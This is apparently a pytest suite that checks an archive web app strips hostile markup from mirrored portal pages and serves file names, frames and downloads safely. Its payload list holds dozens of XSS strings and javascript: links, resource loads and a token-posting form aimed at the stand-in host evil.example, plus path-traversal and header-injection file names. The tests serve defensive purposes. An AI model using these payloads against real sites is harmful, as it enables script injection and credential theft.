"""What a portal sends does nothing in the reading room: as it is served, before any browser."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from support.room import Room
from support.shelf import JsonReader, Shelf

from archive.room.received import disposition, file_name, inert_page

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='//evil.example/pixel.gif'>",
    "<img srcset='//evil.example/a.png 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='//evil.example/x.swf'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<a href='javascript:alert(1)'>点此</a>",
    "<a href='java\nscript:alert(1)'>点此</a>",
    "<a href=' &#14;javascript:alert(1)'>点此</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>点此</a>",
    "<a href='//evil.example/' target=_top>点此</a>",
    "<a href=x onmouseover=alert(1)>点此</a>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=prefetch href='//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<div style='background:url(//evil.example/x)'>底</div>",
    "<div style='position:fixed;inset:0;z-index:9'>遮</div>",
    '<p style="width:expression(alert(1))">宽</p>',
    "<form action='//evil.example/'><input name=token><button>登录</button></form>",
    "<button formaction='//evil.example/'>登录</button>",
    "<input type=image src='//evil.example/x' onerror=alert(1)>",
    "<video src='//evil.example/x' autoplay onloadstart=alert(1)></video>",
    "<audio src='//evil.example/x' autoplay></audio>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>开</details>",
    "<marquee onstart=alert(1)>动</marquee>",
    "<table background='//evil.example/x'><tr><td background='//evil.example/y'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.css'?>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></select>",
    "<isindex action='javascript:alert(1)'>",
    "<frameset onload=alert(1)><frame src='//evil.example/'></frameset>",
    "<blockquote cite='javascript:alert(1)'>引</blockquote>",
    "<p id=content name=location>名</p>",
    "<p class=skip>类</p>",
    "'\"><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}<%= 7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e文字倒排\u202c",
    "\u2066<b>\u2069",
    "长" * 2000,
    "w" * 5000,
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "\x1b[31m红\x07",
)

LINKS = ("href", "src", "srcset", "action", "formaction", "data", "background", "poster", "cite")


class Inspector(HTMLParser):
    """What a page would do, as far as its elements and attributes tell."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements, self.acts, self.leads = set(), [], []

    def handle_starttag(self, tag, attributes):
        self.elements.add(tag)
        for name, value in attributes:
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                self.acts.append((tag, name, value))
            if name in LINKS:
                self.leads.append(value or "")


def inspected(page):
    inspector = Inspector()
    inspector.feed(page)
    inspector.close()
    return inspector


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60


# --- pages as they were received -----------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_received_page_is_made_inert(payload):
    source = f"<html><head>{payload}</head><body><p>前</p>{payload}<p>后</p></body></html>"
    found = inspected(inert_page(source))
    assert found.acts == []
    assert found.leads == []
    assert (
        found.elements
        & {
            *(
                "script",
                "iframe",
                "object",
                "embed",
                "link",
                "base",
                "form",
                "input",
                "button",
                "img",
            ),
            *("svg", "math", "video", "audio", "source", "template", "frame", "textarea", "select"),
        }
        == set()
    )


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 2000 + "深" + "</div>" * 2000,
        "<table><tr><td>" * 1000,
        "<p " + " ".join(f"a{n}=1" for n in range(5000)) + ">",
        "<" * 50_000,
        "&" * 50_000,
    ],
    ids=["deep", "tables", "attributes", "brackets", "entities"],
)
def test_pages_without_measure_are_borne(source):
    assert "<body>" in inert_page(source)


def test_tables_and_text_of_a_received_page_are_kept():
    page = inert_page(
        "<h1>标题</h1><table><tr><td colspan=2>格</td></tr></table><p>正<b>文</b></p>"
    )
    assert "<h1>标题</h1>" in page
    assert '<td colspan="2">格</td>' in page
    assert "<p>正<b>文</b></p>" in page


# --- everything that a page of the room shows ----------------------------------------------------


@pytest.fixture(scope="module")
def room(tmp_path_factory):
    """An archive in which everything is hostile, open to readers."""
    shelf = Shelf(tmp_path_factory.mktemp("hostile") / "archive.db")
    shelf.reader = _Reader()
    pages = {
        f"gk/{n}": {
            "title": payload[:4000],
            "index_number": f"/2024-{n}",
            "document_number": payload[:500],
            "issuing_agency": payload[:500],
            "category": payload[:500],
            "summary": payload,
            "validity_label": payload[:200],
            "text": f"{payload}\n{payload}\t{payload}",
            "files": [f"{payload[:200]}.pdf".replace("/", "∕")],
        }
        for n, payload in enumerate(PAYLOADS)
    }
    shelf.put(pages)
    shelf.put({place: {**one, "text": f"{one['text']}\n新增"} for place, one in pages.items()})
    with Room(shelf.path, shelf) as room:
        yield room


class _Reader(JsonReader):
    """Shows as the source of a page what the page says in its text: markup, as it may be."""

    def decode(self, body, content_type=""):
        import json

        return json.loads(body)["text"]


@pytest.mark.parametrize("document", range(1, len(PAYLOADS) + 1))
def test_pages_about_hostile_documents_hold_nothing_of_theirs(room, document):
    for path in (
        f"/documents/{document}",
        f"/documents/{document}/versions/1",
        f"/documents/{document}/compare/1...2",
        f"/documents/{document}/versions/1/received",
    ):
        answer = room.get(path)
        assert answer.status_code == 200
        check_page(answer)


@pytest.mark.parametrize(
    "path", ["/", "/changes?baseline=1", "/documents", "/runs", "/columns", "/holdings"]
)
def test_lists_of_hostile_documents_hold_nothing_of_theirs(room, path):
    answer = room.get(path)
    assert answer.status_code == 200
    check_page(answer)


@pytest.mark.parametrize("payload", PAYLOADS[::7], ids=range(len(PAYLOADS[::7])))
def test_what_a_visitor_asks_for_does_nothing_either(room, payload):
    for path, name in (("/documents", "q"), ("/documents", "agency"), ("/find", "index")):
        answer = room.get(path, params={name: payload[:400]})
        assert answer.status_code in (200, 300, 400, 404)
        check_page(answer)


def check_page(answer):
    """A page has the room's own script, style and frames, and leads to the room and the portal."""
    found = inspected(answer.text)
    assert [act for act in found.acts if act[1] != "style"] == []
    assert found.acts == []
    assert re.findall(r"<script(?! src=\"/static/)", answer.text) == []
    for link in found.leads:
        assert link.startswith(("/", "#", "?", "http://www.example.gov.cn/", "http://127.0.0.1:"))
        assert not link.startswith("//")
    assert "evil.example" not in " ".join(found.leads).partition("?")[0]
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b]", answer.text)


@pytest.mark.parametrize("document", range(1, len(PAYLOADS) + 1, 5))
def test_frames_sources_and_files_are_inert_as_served(room, document):
    version = f"/documents/{document}/versions/1"
    frame = room.get(f"{version}/received/page")
    assert frame.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert inspected(frame.text).acts == []
    source = room.get(f"{version}/received/source")
    assert source.headers["content-type"] == "text/plain; charset=utf-8"
    assert "sandbox" in source.headers["content-security-policy"]
    saved = room.get(f"{version}/received/bytes")
    assert saved.headers["content-type"] == "application/octet-stream"
    assert saved.headers["content-disposition"].startswith("attachment; ")


# --- names of files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "url", "saved"),
    [
        ("附件1：申请表", "http://x/a/b.docx", "附件1：申请表.docx"),
        ("../../etc/passwd", "http://x/a", "_.._etc_passwd"),
        ("a\r\nSet-Cookie: x=1.pdf", "http://x/a.pdf", "a__Set-Cookie_ x=1.pdf"),
        ("\u202efdp.exe", "http://x/a.pdf", "_fdp.exe"),
        ('"quoted".pdf', "http://x/a.pdf", "_quoted_.pdf"),
        ("", "http://x/f/%E8%A1%A8.xlsx", "file.xlsx"),
        ("...", "http://x/", "file"),
        ("x" * 500, "http://x/y.pdf", "x" * 120 + ".pdf"),
        ("半\ud800个.txt", "http://x/", "半_个.txt"),
    ],
)
def test_a_file_gets_a_name_that_does_nothing(name, url, saved):
    found = file_name(name, url)
    assert found == saved
    header = disposition(found)
    assert re.fullmatch(r"attachment; filename=\"[A-Za-z0-9._ -]+\"; filename\*=UTF-8''\S+", header)
    assert unquote(header.rpartition("''")[2]) == found
